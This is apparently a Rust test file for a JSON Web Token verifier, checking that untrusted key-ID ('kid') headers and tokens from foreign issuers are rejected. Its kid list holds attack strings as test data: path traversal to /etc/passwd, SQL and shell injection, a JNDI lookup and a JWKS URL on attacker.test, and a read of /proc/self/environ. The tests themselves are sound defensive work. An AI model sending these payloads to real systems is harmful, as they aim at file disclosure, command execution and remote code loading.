//! The name of a key is input like any other (RFC 8725 §3.10), and it names one key or none.

use serde_json::json;
use tollgate::decision::Reason::{BadSignature, HeaderRefused, UnknownIssuer, UnknownKey};

use crate::kit::Table;

pub fn add(table: &mut Table) {
    for kid in [
        "unknown",
        "",
        "ES",
        "es ",
        " es",
        "es\0",
        "\0",
        "es-3",
        "../../../../etc/passwd",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "' OR '1'='1",
        "es' UNION SELECT 'key' --",
        "; cat /etc/passwd",
        "$(id)",
        "${jndi:ldap://attacker.test/x}",
        "https://attacker.test/jwks.json",
        "file:///proc/self/environ",
        "*",
        "__proto__",
        "constructor",
        "es\u{200b}",
        "\u{435}s",
        "stranger",
        "rs",
    ] {
        table.row(format!("kid {kid:?}"), "es", UnknownKey, move |keys| {
            keys.token("es").header("kid", json!(kid)).text()
        });
    }
    table.row("a kid of 256 bytes", "es", UnknownKey, |keys| {
        keys.token("es").header("kid", json!("k".repeat(256))).text()
    });
    table.row("a kid of 1400 bytes", "es", HeaderRefused, |keys| {
        keys.token("es").header("kid", json!("k".repeat(1400))).text()
    });
    table.row("the kid of another key of the issuer", "es", BadSignature, |keys| {
        keys.token("es").header("kid", json!("es-2")).text()
    });
    table.row("the kid of a key of another type", "es", UnknownKey, |keys| {
        keys.token("es").header("kid", json!("es-rsa")).text()
    });
    table.row("no kid and a key that is not the issuer's", "es", BadSignature, |keys| {
        keys.token("es").without_header("kid").signed_by(keys.private("stranger"), "ES256").text()
    });
    table.row("no kid and a key beyond the four that are tried", "nameless", BadSignature, |keys| {
        keys.token("nameless").signed_by(keys.private("nameless-5"), "ES256").text()
    });
    for (issuer, kid) in
        [("nest", "unknown"), ("nest", ""), ("direct", "../key"), ("wrap", "direct"), ("agree", "nest")]
    {
        table.row(format!("kid {kid:?} in a JWE of {issuer}"), issuer, UnknownKey, move |keys| {
            keys.token(issuer).outer("kid", json!(kid)).text()
        });
    }
    table.row("an unknown kid in the JWS inside a JWE", "nest", UnknownKey, |keys| {
        keys.token("nest").header("kid", json!("unknown")).text()
    });
    strangers_issuers(table);
}

/// A key of one issuer says nothing about the claims of another, even on a route that believes both.
fn strangers_issuers(table: &mut Table) {
    table.row("a token of an issuer that the route does not believe", "es", UnknownIssuer, |keys| {
        keys.token("rs").text()
    });
    table.row("the claims of one issuer under the key of another", "several", UnknownKey, |keys| {
        keys.token("es").claim("iss", json!("https://rs.example.test")).header("alg", json!("RS256")).text()
    });
    table.row("the claims of one issuer signed by another", "several", BadSignature, |keys| {
        let token = keys.token("rs").signed_by(keys.private("es-rsa"), "RS256");
        token.text()
    });
    table.row("a nested token around the claims of another issuer", "nest", UnknownIssuer, |keys| {
        keys.token("nest").claim("iss", json!("https://es.example.test")).text()
    });
    table.row("a nested token around a good signed token of another issuer", "several", UnknownIssuer, |keys| {
        let inside = keys.token("es").text();
        keys.token("nest").plaintext(inside).text()
    });
}
